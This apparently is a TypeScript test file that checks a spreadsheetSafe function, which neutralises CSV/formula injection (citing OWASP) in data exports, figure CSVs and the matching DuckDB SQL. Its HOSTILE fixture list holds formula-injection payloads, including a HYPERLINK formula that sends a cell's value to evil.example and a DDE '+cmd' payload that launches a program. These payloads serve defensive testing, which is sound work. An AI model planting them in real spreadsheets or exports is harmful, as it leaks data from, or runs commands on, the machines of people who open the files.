import { DuckDBInstance } from '@duckdb/node-api';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { figureCsv } from '../../src/lib/figure.ts';
import { toCsv } from '../../src/lib/result-export.ts';
import { spreadsheetSafe, spreadsheetSafeSql } from '../../src/lib/spreadsheet-safe.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Xã Một")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tX', '\rX'];

describe('CSV for spreadsheets never runs a formula from data (OWASP)', () => {
  it.each(HOSTILE)('neutralises text starting like a formula: %j', (text) => {
    expect(spreadsheetSafe(text)).toBe(`'${text}`);
  });
  it('leaves ordinary text alone', () => {
    for (const text of ['Xã Một', 'Phường Hà Khánh', '06649', 'a=b']) expect(spreadsheetSafe(text)).toBe(text);
  });
  it('in explore exports: text cells neutralised, numbers stay numbers (also negative ones)', () => {
    const csv = toCsv({
      columns: ['unit_name', 'change'],
      types: ['Utf8', 'Int32'],
      rows: HOSTILE.map((t, i) => ({ unit_name: t, change: -i })),
    });
    const lines = csv.trim().split('\n');
    expect(lines[1]).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Xã Một"")",0');
    expect(lines[2]).toBe("'+cmd|' /C calc'!A0,-1");
    expect(lines[4]).toBe("'@SUM(A1:A9),-3");
  });
  it('in figure data files', () => {
    const csv = figureCsv({
      illustrative: true,
      source: '=evil()',
      table: {
        columns: [
          { key: 'name', label: 'Name', numeric: false },
          { key: 'v', label: 'V', numeric: true },
        ],
        rowHeader: 0,
        rows: [{ key: 'a', cells: [], values: ['@x', -4] }],
      },
    });
    expect(csv).toBe("name,v,illustrative,source\r\n'@x,-4,true,'=evil()\r\n");
  });
});

describe('the same rule in the SQL that writes the published CSV', () => {
  it('neutralises exactly the text the rule in the site does, and keeps the rows in order', async () => {
    const conn = await (await DuckDBInstance.create(':memory:', { threads: '2' })).connect();
    const texts = fc.oneof(fc.string({ unit: 'binary', maxLength: 6 }), fc.constantFrom(...HOSTILE, '', '=', '\u0301=', 'x'));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.option(texts), { maxLength: 30 }), async (values) => {
        await conn.run('CREATE OR REPLACE TABLE cells (k INTEGER, "a ""b" VARCHAR)');
        const appender = await conn.createAppender('cells');
        values.forEach((v, k) => {
          appender.appendInteger(k);
          if (v == null) appender.appendNull();
          else appender.appendVarchar(v);
          appender.endRow();
        });
        appender.closeSync();
        const read = await conn.runAndReadAll(`SELECT ${spreadsheetSafeSql('a "b')} FROM cells`);
        expect(read.getColumnsJS()[0] ?? []).toEqual(values.map((v) => (v == null ? null : spreadsheetSafe(v))));
      }),
      { numRuns: 200 },
    );
  });
});
